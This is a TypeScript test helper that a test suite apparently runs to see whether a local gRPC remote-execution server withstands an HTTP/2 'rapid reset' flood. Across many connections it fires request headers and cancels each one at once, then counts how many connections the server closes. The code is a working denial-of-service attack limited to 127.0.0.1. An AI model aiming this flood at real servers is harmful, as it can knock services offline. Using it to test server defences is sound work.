/**
 * An HTTP/2 attacker run as its own process by `transport_attacks_test.ts` (so the victim's latency is the
 * server's, not the test process's): `rapid-reset PORT CONNECTIONS STREAMS` opens CONNECTIONS connections
 * and on each sends STREAMS requests, each HEADERS immediately followed by RST_STREAM(CANCEL). Prints
 * `started` once under way, then `sent N cut C` when done (C: connections the server closed).
 *
 * @example
 * ```sh
 * deno run --allow-net=127.0.0.1 tests/security/h2_attacker.ts rapid-reset 50051 4 2500
 * ```
 * @module
 */
import http2 from "node:http2";

const [mode, portText, connText, streamsText] = Deno.args;
if (mode !== "rapid-reset") throw new Error(`unknown mode ${mode}`);
const port = Number(portText);
let sent = 0;
let cut = 0;
let announced = false;

async function attack(): Promise<void> {
  const s = http2.connect(`http://127.0.0.1:${port}`);
  s.on("error", () => {});
  let closed = false;
  s.once("close", () => closed = true);
  s.once("goaway", () => closed = true);
  await new Promise<void>((resolve) => {
    s.once("connect", () => resolve());
    s.once("close", () => resolve());
  });
  for (let i = 0; i < Number(streamsText); i++) {
    if (closed || s.destroyed || s.closed) break;
    try {
      const st = s.request({
        ":method": "POST",
        ":path": "/build.bazel.remote.execution.v2.Capabilities/GetCapabilities",
        "content-type": "application/grpc",
      });
      st.on("error", () => {});
      st.close(http2.constants.NGHTTP2_CANCEL);
      sent++;
    } catch {
      break; // the server sent GOAWAY
    }
    if (!announced && sent >= 200) {
      announced = true;
      console.log("started");
    }
    if (i % 50 === 49) await new Promise((r) => setTimeout(r, 0));
  }
  // A server defending itself closes the connection (GOAWAY, then close) soon after the flood.
  const until = Date.now() + 5000;
  while (!closed && Date.now() < until) await new Promise((r) => setTimeout(r, 20));
  if (closed) cut++;
  s.destroy();
}

await Promise.all(Array.from({ length: Number(connText) }, attack));
if (!announced) console.log("started");
console.log(`sent ${sent} cut ${cut}`);
